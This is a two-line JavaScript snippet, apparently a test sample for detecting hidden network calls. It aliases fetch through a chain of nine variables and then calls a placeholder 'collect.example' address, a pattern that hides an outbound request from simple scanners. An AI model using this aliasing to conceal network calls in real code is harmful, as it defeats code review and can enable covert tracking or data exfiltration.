const e0 = fetch, e1 = e0, e2 = e1, e3 = e2, e4 = e3, e5 = e4, e6 = e5, e7 = e6, e8 = e7, e9 = e8;
e9("https://collect.example/x");
